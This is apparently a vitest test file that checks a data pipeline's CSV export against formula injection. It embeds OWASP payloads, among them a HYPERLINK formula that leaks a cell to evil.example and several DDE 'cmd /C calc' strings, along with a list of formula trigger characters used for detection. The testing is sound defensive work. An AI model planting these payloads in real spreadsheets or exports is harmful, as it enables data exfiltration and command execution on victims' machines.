import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { runFiles } from "@fundtrace/pipeline";

/** OWASP CSV-injection payloads placed where they become recipients, names, places and passages. */
const payloads = `=HYPERLINK("http://evil.example/?leak="&A1,"Click me")

=cmd|' /C calc'!A0 Council (£1.2m) to pilot ‘=cmd|' /C calc'!A0’
@SUM(1+1)*cmd|' /C calc'!A0 Trust (£250,000) to run ‘+SUM(1+1)*cmd|' /C calc'!A0’
+44 Foundation (£300,000) to fund ‘-2+3+cmd|' /C calc'!A0’ in =Leeds
Leeds City Council (£1.1m) to test ‘@SUM(1+1)*cmd|' /C calc'!A0’
Bristol City Council (£450,000) to pilot ‘\t=1+2’
Hackney Council (£2m) to test ‘=1+2";=1+2’
Camden Council (£100,000) to pilot ‘\r=1+2’

Round =1+2 projects

-2+3+cmd|' /C calc'!A0 Partnership has been awarded £2 million to test ‘contextual safeguarding’.
`;

/** RFC 4180: quoted cells may hold commas, quotes (doubled) and line breaks; rows end with CRLF. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; }
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"' && cell === "") quoted = true;
    else if (c === ",") { row.push(cell); cell = ""; }
    else if (c === "\r" && text[i + 1] === "\n") { row.push(cell); rows.push(row); row = []; cell = ""; i++; }
    else cell += c;
  }
  if (quoted) throw new Error("unclosed quote");
  if (cell !== "" || row.length > 0) { row.push(cell); rows.push(row); }
  return rows.map((r) => (r[0]?.charCodeAt(0) === 0xfeff ? [r[0].slice(1), ...r.slice(1)] : r));
}

const triggers = ["=", "+", "-", "@", "\t", "\r"];
const plainNumber = /^[+-]?(?:\d+(?:\.\d+)?|\.\d+)(?:[eE][+-]?\d+)?$/;
const dangerous = (cell: string) => triggers.includes(cell.charAt(0)) && !plainNumber.test(cell);

async function cells(keepFormulas: boolean, excel = false): Promise<Array<{ file: string; cell: string; width: number; header: number }>> {
  const dir = mkdtempSync(join(tmpdir(), "fundtrace-csv-"));
  writeFileSync(join(dir, "payloads.txt"), payloads);
  const out = join(dir, "out");
  await runFiles({ inputs: [join(dir, "payloads.txt")], out, keepFormulas, excel });
  return ["projects.csv", "mentions.csv"].flatMap((file) => {
    const rows = parseCsv(readFileSync(join(out, file), "utf8"));
    return rows.slice(1).flatMap((r) => r.map((cell) => ({ file, cell, width: r.length, header: rows[0]!.length })));
  });
}

describe("CSV injection", () => {
  it("payloads in a document reach the CSV cells raw when formulas are kept (so this test can fail)", async () => {
    const raw = await cells(true);
    const hits = raw.filter((c) => dangerous(c.cell)).map((c) => c.cell);
    expect(hits.length).toBeGreaterThanOrEqual(4);
    expect(hits).toEqual(expect.arrayContaining([expect.stringMatching(/^@SUM/), expect.stringMatching(/^=cmd/), expect.stringMatching(/^-2\+3\+cmd/)]));
  });

  it.each([[false], [true]])("are neutralised by default in projects.csv and mentions.csv (excel BOM: %s): no cell starts a formula, no cell is split", async (excel) => {
    const all = await cells(false, excel);
    expect(all.length).toBeGreaterThan(50);
    for (const c of all) {
      expect(dangerous(c.cell), `${c.file}: ${JSON.stringify(c.cell)}`).toBe(false);
      expect(c.width, c.file).toBe(c.header);
    }
    const neutralised = all.filter((c) => c.cell.startsWith("'") && triggers.includes(c.cell.charAt(1)));
    expect(neutralised.length).toBeGreaterThanOrEqual(4);
    expect(all.some((c) => c.cell.includes('=1+2";=1+2'))).toBe(true);
  });
});
